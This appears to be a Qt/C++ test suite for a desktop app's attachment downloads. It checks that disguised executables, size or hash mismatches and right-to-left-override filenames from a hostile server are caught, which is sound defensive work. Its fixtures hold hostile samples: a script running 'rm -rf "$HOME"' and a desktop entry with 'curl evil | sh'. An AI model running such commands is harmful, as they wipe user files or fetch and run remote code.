#include "models/api/ApiClient.h"
#include "models/attachments/AttachmentService.h"
#include "models/attachments/AttachmentStash.h"
#include "models/attachments/DownloadMark.h"
#include "models/presentation/CaseFacts.h"
#include "tests/support/HostileServer.h"
#include "tests/support/TestHome.h"
#include "ui/attachments/CaseAttachmentsPanel.h"

#include <QCryptographicHash>
#include <QDesktopServices>
#include <QDir>
#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QMessageBox>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>
#include <QTextDocument>
#include <QTreeWidget>

#include <memory>

using namespace CaseDesk;

using namespace Qt::StringLiterals;

namespace
{
const QString kCase = u"11150929"_s;
const QByteArray kPdf = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
const QByteArray kElf = QByteArray("\x7f"
                                   "ELF\x02\x01\x01\x00",
                                   8)
                        + QByteArray(56, '\0');
const QByteArray kShellScript = "#!/bin/sh\nrm -rf \"$HOME\"\n";
const QByteArray kDesktopEntry = "[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl evil | sh'\n";

QString readFile(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? QString::fromLatin1(file.readAll()) : u"<unreadable>"_s;
}

// What a tooltip shows of `tip`.
QString shownTip(const QString& tip)
{
    if (!Qt::mightBeRichText(tip))
        return tip;
    QTextDocument document;
    document.setHtml(tip);
    return document.toPlainText();
}
} // namespace

// Stands in for the desktop: records every file CaseDesk asks it to open.
class Desktop : public QObject
{
    Q_OBJECT

public:
    QList<QUrl> opened;

public slots:
    void openUrl(const QUrl& url) { opened << url; }
};

/*
 * Downloaded attachments from a server that lies: a program, a script or a desktop entry named like a PDF is
 * never handed to the desktop (Save as… is offered, naming what it really is), a download whose size or hash
 * is not the attachment's is not kept, names show without their disguise, and downloads carry the mark the
 * system uses for files from the internet.
 */
class TestAttachmentDownloads : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();
    void cleanupTestCase();

    void anAllowedDocumentOpens();
    void aDisguisedProgramIsOfferedSaveAsNeverOpened_data();
    void aDisguisedProgramIsOfferedSaveAsNeverOpened();
    void namesShowWithoutDisguiseAndKeepTheirExtension();
    void aDownloadOfTheWrongSizeIsNotKept();
    void aDownloadThatIsNotTheUploadedFileIsNotKept();
    void downloadsAreMarkedAsComingFromTheServer();

private:
    AttachmentRef serve(const QString& id, const QString& name, const QByteArray& bytes);
    bool selectRow(const QString& id);
    std::optional<ApiResult<QString>> fetch(const AttachmentRef& ref);

    std::unique_ptr<TestHome> m_home;
    std::unique_ptr<HostileServer> m_server;
    QUrl m_base;
    QHash<QString, QByteArray> m_files; // attachment id -> bytes the server sends
    QHash<QString, qint64> m_metaSizes; // attachment id -> size the metadata states
    QByteArray m_uploadAnswer;
    Desktop m_desktop;
    std::unique_ptr<ApiClient> m_client;
    std::unique_ptr<AttachmentService> m_service;
    std::unique_ptr<CaseAttachmentsPanel> m_panel;
    QList<AttachmentRef> m_refs;
    int m_round = 0;
};

void TestAttachmentDownloads::initTestCase()
{
    m_home = std::make_unique<TestHome>();
    QVERIFY(m_home->isValid());
    QLocale::setDefault(QLocale::c());
    QDesktopServices::setUrlHandler(u"file"_s, &m_desktop, "openUrl");

    m_server = std::make_unique<HostileServer>();
    using Method = QHttpServerRequest::Method;
    m_server->on(Method::Post, u"/oauth2/v1/token"_s, [](const QHttpServerRequest&) {
        return HostileServer::Answer{200, R"({"access_token":"t","token_timeout":"3599","user_name":"u",)"
                                          R"("token_type":"Bearer"})"};
    });
    m_server->on(Method::Get, u"/support/v2/tickets/attachment/download/"_s, [this](const QHttpServerRequest& request) {
        const QString id = request.url().path().section(u'/', -1);
        if (!m_files.contains(id))
            return HostileServer::Answer{404, R"([{"errorCode":"EQ-2010004"}])"};
        return HostileServer::Answer{200, m_files.value(id), "application/pdf"}; // whatever the bytes are
    });
    m_server->on(Method::Get, u"/v1/attachments/"_s, [this](const QHttpServerRequest& request) {
        const QString id = request.url().path().section(u'/', -1);
        if (!m_metaSizes.contains(id))
            return HostileServer::Answer{403, R"([{"errorCode":"EQ-2010007"}])"};
        const QJsonObject info{{u"attachmentId"_s, id},
                               {u"attachmentName"_s, u"report.pdf"_s},
                               {u"attachmentType"_s, u"pdf"_s},
                               {u"attachmentSize"_s, double(m_metaSizes.value(id))}};
        return HostileServer::Answer{200, QJsonDocument(info).toJson()};
    });
    m_server->on(Method::Post, u"/v1/attachments/file"_s, [this](const QHttpServerRequest&) {
        return HostileServer::Answer{201, m_uploadAnswer};
    });
    m_base = m_server->start();
    QVERIFY(m_base.isValid());
}

void TestAttachmentDownloads::init()
{
    ++m_round; // a cache of its own per test function
    m_files.clear();
    m_metaSizes.clear();
    m_refs.clear();
    m_desktop.opened.clear();
    m_client = std::make_unique<ApiClient>();
    ApiEndpoint endpoint;
    endpoint.baseUrl = m_base;
    endpoint.clientId = u"client"_s;
    endpoint.clientSecret = u"secret"_s;
    m_client->setEndpoint(endpoint);
    m_service = std::make_unique<AttachmentService>(m_client.get(),
                                                    AttachmentStash(m_home->filePath(u"stash-%1"_s.arg(m_round))),
                                                    m_home->filePath(u"cache-%1"_s.arg(m_round)));
    m_panel = std::make_unique<CaseAttachmentsPanel>();
    m_panel->setService(m_service.get());
    m_panel->resize(700, 400);
    m_panel->show();
    QVERIFY(QTest::qWaitForWindowExposed(m_panel.get()));
}

void TestAttachmentDownloads::cleanup()
{
    m_panel.reset();
    m_service.reset();
    m_client.reset();
}

void TestAttachmentDownloads::cleanupTestCase()
{
    QDesktopServices::unsetUrlHandler(u"file"_s);
    m_server.reset();
}

AttachmentRef TestAttachmentDownloads::serve(const QString& id, const QString& name, const QByteArray& bytes)
{
    m_files.insert(id, bytes);
    AttachmentRef ref{id, name, {}, {}};
    m_refs.append(ref);
    CaseFacts facts;
    facts.number = kCase;
    facts.attachments = m_refs;
    m_panel->setFacts(facts);
    return ref;
}

bool TestAttachmentDownloads::selectRow(const QString& id)
{
    const QList<AttachmentRef> refs = m_panel->attachments();
    for (int row = 0; row < refs.size(); ++row) {
        if (refs.at(row).id == id) {
            m_panel->view()->setCurrentItem(m_panel->view()->topLevelItem(row));
            return true;
        }
    }
    return false;
}

std::optional<ApiResult<QString>> TestAttachmentDownloads::fetch(const AttachmentRef& ref)
{
    std::optional<ApiResult<QString>> outcome;
    m_service->fetch(kCase, ref, m_service->cachePath(kCase, ref), this,
                     [&outcome](const ApiResult<QString>& result) { outcome = result; });
    if (!QTest::qWaitFor([&outcome] { return outcome.has_value(); }, 15000))
        return std::nullopt;
    return outcome;
}

void TestAttachmentDownloads::anAllowedDocumentOpens()
{
    const AttachmentRef ref = serve(u"att-pdf"_s, u"report.pdf"_s, kPdf);
    QVERIFY(selectRow(ref.id));
    QSignalSpy opened(m_panel.get(), &CaseAttachmentsPanel::opened);
    QTest::mouseClick(m_panel->findChild<QPushButton*>(u"openAttachmentButton"_s), Qt::LeftButton);
    QVERIFY(opened.wait(15000));
    QCOMPARE(m_desktop.opened.size(), 1);
    QCOMPARE(readFile(m_desktop.opened.first().toLocalFile()).toLatin1(), kPdf);
    QVERIFY(!m_panel->openRefusal());
}

void TestAttachmentDownloads::aDisguisedProgramIsOfferedSaveAsNeverOpened_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("realType");
    QTest::newRow("Linux program named .pdf") << u"invoice.pdf"_s << kElf << u"application/x-"_s;
    QTest::newRow("shell script named .pdf") << u"invoice.pdf"_s << kShellScript << u"application/x-shellscript"_s;
    QTest::newRow("desktop entry named .pdf") << u"invoice.pdf"_s << kDesktopEntry << u"application/x-desktop"_s;
    QTest::newRow(".exe behind a right-to-left override")
        << QString(u"invoice"_s + QChar(0x202E) + u"fdp.exe"_s) << kPdf << u"application/pdf"_s;
}

void TestAttachmentDownloads::aDisguisedProgramIsOfferedSaveAsNeverOpened()
{
    QFETCH(QString, name);
    QFETCH(QByteArray, bytes);
    QFETCH(QString, realType);
    const AttachmentRef ref = serve(u"att-bad"_s, name, bytes);
    QVERIFY(selectRow(ref.id));
    QString suggested;
    const QString chosen = m_home->filePath(u"saved-%1.bin"_s.arg(m_round));
    m_panel->setSavePicker(
        [&suggested, chosen](QWidget*, const QString& path, std::function<void(const QString&)> done) {
            suggested = path;
            done(chosen);
        });

    QTest::mouseClick(m_panel->findChild<QPushButton*>(u"openAttachmentButton"_s), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_panel->openRefusal() && m_panel->openRefusal()->isVisible(), 15000);
    QMessageBox* refusal = m_panel->openRefusal();
    QCOMPARE(refusal->textFormat(), Qt::PlainText);
    QVERIFY2(refusal->text().contains(realType), qPrintable(refusal->text()));
    QVERIFY2(!refusal->text().contains(QChar(0x202E)), qPrintable(refusal->text()));
    QVERIFY(m_desktop.opened.isEmpty());

    // Save as… instead: the bytes land where the user chose, and still nothing was opened.
    QSignalSpy saved(m_panel.get(), &CaseAttachmentsPanel::saved);
    auto* saveInstead = refusal->findChild<QPushButton*>(u"saveInsteadButton"_s);
    QVERIFY(saveInstead);
    saveInstead->click();
    QVERIFY(saved.wait(15000));
    QCOMPARE(saved.first().first().toString(), chosen);
    QCOMPARE(readFile(chosen).toLatin1(), bytes);
    QVERIFY2(!suggested.contains(QChar(0x202E)), qPrintable(suggested));
    QVERIFY(m_desktop.opened.isEmpty());
    QFile::remove(chosen);
}

void TestAttachmentDownloads::namesShowWithoutDisguiseAndKeepTheirExtension()
{
    serve(u"att-1"_s, u"invoice"_s + QChar(0x202E) + u"fdp.exe"_s, kPdf);
    const QString longName = QString(300, u'a') + u".pdf"_s;
    serve(u"att-2"_s, longName, kPdf);
    QTreeWidget* view = m_panel->view();
    QCOMPARE(view->topLevelItemCount(), 2);
    QCOMPARE(view->topLevelItem(0)->text(CaseAttachmentsPanel::NameColumn), u"invoicefdp.exe"_s);
    const QString shortened = view->topLevelItem(1)->text(CaseAttachmentsPanel::NameColumn);
    QVERIFY2(shortened.size() < 120 && shortened.endsWith(u".pdf"_s), qPrintable(shortened));
    QCOMPARE(shownTip(view->topLevelItem(1)->toolTip(CaseAttachmentsPanel::NameColumn)), longName);
    QCOMPARE(shownTip(view->topLevelItem(0)->toolTip(CaseAttachmentsPanel::NameColumn)), u"invoicefdp.exe"_s);
    // The type comes from the real extension, too.
    QCOMPARE(view->topLevelItem(0)->text(CaseAttachmentsPanel::TypeColumn), u"EXE"_s);
}

void TestAttachmentDownloads::aDownloadOfTheWrongSizeIsNotKept()
{
    const AttachmentRef ref{u"att-size"_s, u"report.pdf"_s, {}, {}};
    m_files.insert(ref.id, kPdf);
    m_metaSizes.insert(ref.id, 4096); // the metadata says 4096 bytes; the download brings fewer
    std::optional<std::optional<qint64>> size;
    m_service->lookUpSize(ref.id, this, [&size](std::optional<qint64> found) { size = found; });
    QTRY_VERIFY_WITH_TIMEOUT(size.has_value(), 15000);
    QCOMPARE(*size, std::optional<qint64>(4096));

    const auto outcome = fetch(ref);
    QVERIFY(outcome);
    QVERIFY(!outcome->ok());
    QCOMPARE(outcome->error.kind, ApiError::Kind::BadPayload);
    const QString message = outcome->error.technicalDetails;
    QVERIFY2(message.contains(u"4096"_s), qPrintable(message));
    QVERIFY2(message.contains(QString::number(kPdf.size())), qPrintable(message));
    QVERIFY(!QFileInfo::exists(m_service->cachePath(kCase, ref)));
    QVERIFY(!m_service->isCached(kCase, ref));
    const QStringList left = QDir(QFileInfo(m_service->cachePath(kCase, ref)).path()).entryList(QDir::Files);
    QVERIFY2(left.isEmpty(), qPrintable(left.join(u", "_s)));

    // Opened from the panel, the message says what was wrong, and nothing reaches the desktop.
    serve(ref.id, ref.name, kPdf);
    QVERIFY(selectRow(ref.id));
    QTest::mouseClick(m_panel->findChild<QPushButton*>(u"openAttachmentButton"_s), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_panel->message().contains(u"could not be downloaded"_s), 15000);
    QVERIFY2(m_panel->message().contains(u"4096"_s), qPrintable(m_panel->message())); // C locale: no separator
    QVERIFY(m_desktop.opened.isEmpty());
}

void TestAttachmentDownloads::aDownloadThatIsNotTheUploadedFileIsNotKept()
{
    // Upload a file from the stash: its SHA-256 is then known for the id the server gives it.
    const QString source = m_home->filePath(u"mine.pdf"_s);
    {
        QFile file(source);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(kPdf);
    }
    const StashedFile stashed = m_service->stash().addNow(source, u"mine.pdf"_s);
    QVERIFY2(stashed.ok(), qPrintable(stashed.error));
    m_uploadAnswer = QJsonDocument(QJsonObject{{u"attachmentId"_s, u"up-1"_s},
                                               {u"attachmentName"_s, u"mine.pdf"_s},
                                               {u"attachmentType"_s, u"pdf"_s},
                                               {u"attachmentSize"_s, double(kPdf.size())}})
                         .toJson();
    std::optional<ApiResult<AttachmentInfo>> uploaded;
    m_service->upload(stashed.namedPath, this, [&uploaded](const ApiResult<AttachmentInfo>& r) { uploaded = r; });
    QTRY_VERIFY_WITH_TIMEOUT(uploaded.has_value(), 15000);
    QVERIFY2(uploaded->ok(), qPrintable(uploaded->error.userMessage()));

    // The server hands back other bytes of the same size.
    QByteArray other = kPdf;
    other[other.size() - 2] = 'X';
    m_files.insert(u"up-1"_s, other);
    const AttachmentRef ref{u"up-1"_s, u"mine.pdf"_s, {}, {}};
    const auto outcome = fetch(ref);
    QVERIFY(outcome);
    QVERIFY(!outcome->ok());
    QVERIFY2(outcome->error.technicalDetails.contains(u"SHA-256"_s), qPrintable(outcome->error.technicalDetails));
    QVERIFY(!QFileInfo::exists(m_service->cachePath(kCase, ref)));

    // The right bytes are kept.
    m_files.insert(u"up-1"_s, kPdf);
    const auto again = fetch(ref);
    QVERIFY(again && again->ok());
    QCOMPARE(readFile(*again->value).toLatin1(), kPdf);
}

void TestAttachmentDownloads::downloadsAreMarkedAsComingFromTheServer()
{
    const QString probe = m_home->filePath(u"probe"_s);
    {
        QFile file(probe);
        QVERIFY(file.open(QIODevice::WriteOnly));
    }
    if (!DownloadMark::apply(probe, m_base))
        QSKIP("this file system keeps no extended attributes");
    const AttachmentRef ref{u"att-mark"_s, u"report.pdf"_s, {}, {}};
    m_files.insert(ref.id, kPdf);
    const auto outcome = fetch(ref);
    QVERIFY(outcome && outcome->ok());
    QCOMPARE(DownloadMark::read(*outcome->value), m_base.toEncoded());

    // A copy saved elsewhere is marked too.
    const QString copy = m_home->filePath(u"copy.pdf"_s);
    std::optional<ApiResult<QString>> saved;
    m_service->fetch(kCase, ref, copy, this, [&saved](const ApiResult<QString>& result) { saved = result; });
    QTRY_VERIFY_WITH_TIMEOUT(saved.has_value(), 15000);
    QVERIFY(saved->ok());
    QCOMPARE(DownloadMark::read(copy), m_base.toEncoded());
}

QTEST_MAIN(TestAttachmentDownloads)
#include "tst_attachmentdownloads.moc"
